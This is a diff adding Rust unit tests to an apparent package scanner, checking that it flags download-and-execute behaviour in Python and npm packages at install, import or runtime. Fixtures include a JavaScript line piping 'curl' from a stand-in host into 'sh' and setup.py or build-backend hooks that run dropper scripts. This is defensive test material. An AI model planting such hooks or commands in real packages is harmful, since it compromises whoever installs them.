@@ -687,6 +687,129 @@ mod package {
     }
 
     #[test]
+    fn python_runs_scripts_named_by_joined_paths() {
+        // An argument vector whose script path is joined from pieces, or from the folder
+        // of the running file: the script is read, in the context of what runs it.
+        for (runner, script) in [
+            (
+                "subprocess.call(['/bin/bash', os.path.join('tools', 'probe.sh')])",
+                "tools/probe.sh",
+            ),
+            (
+                "subprocess.run(['sh', os.path.join(os.path.dirname(os.path.abspath(__file__)), 'scripts', 'post.sh')], check=False)",
+                "scripts/post.sh",
+            ),
+        ] {
+            let setup = format!(
+                "import os\nimport subprocess\nfrom setuptools import setup\n{runner}\nsetup(name='demo')\n"
+            );
+            let a = analyse(
+                "demo-1.0.tar.gz",
+                "demo-1.0/",
+                &[
+                    (
+                        "PKG-INFO",
+                        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                    ),
+                    ("setup.py", &setup),
+                    (script, DROPPER),
+                ],
+            );
+            assert_eq!(
+                found(&a, script, K::DownloadExecute),
+                Some(Context::Install),
+                "{runner}: {:?}",
+                a.behaviours
+            );
+        }
+        // A build backend one folder down that runs a script at the package root.
+        let a = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
+                (
+                    "pyproject.toml",
+                    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
+                ),
+                (
+                    "_build/backend.py",
+                    "import os, subprocess\ndef build_wheel(d, c=None, m=None):\n    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n    subprocess.check_call(['bash', os.path.join(root, 'build.sh')])\n",
+                ),
+                ("build.sh", DROPPER),
+            ],
+        );
+        assert_eq!(
+            found(&a, "build.sh", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
+    fn javascript_in_a_python_distribution_runs_in_the_browser_not_on_import() {
+        let js = "const cp = require('child_process');\ncp.execSync('curl -s http://stage.invalid/a | sh');\n";
+        let pypi = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
+                ("demo/__init__.py", "VERSION = '1.0'\n"),
+                ("demo/static/app.js", js),
+            ],
+        );
+        assert_eq!(
+            found(&pypi, "demo/static/app.js", K::DownloadExecute),
+            Some(Context::Runtime),
+            "{:?}",
+            pypi.behaviours
+        );
+        // The same file is the entry of an npm package: it runs when required.
+        let npm = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","main":"static/app.js"}"#,
+            ),
+            ("static/app.js", js),
+        ]);
+        assert_eq!(
+            found(&npm, "static/app.js", K::DownloadExecute),
+            Some(Context::Import),
+            "{:?}",
+            npm.behaviours
+        );
+        // setup.py that runs it with node runs it at install time.
+        let run = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
+                (
+                    "setup.py",
+                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['node', 'demo/static/app.js'])\nsetup(name='demo')\n",
+                ),
+                ("demo/static/app.js", js),
+            ],
+        );
+        assert_eq!(
+            found(&run, "demo/static/app.js", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            run.behaviours
+        );
+    }
+
+    #[test]
     fn binding_gyp_commands_and_scripts() {
         let a = npm(&[
             (
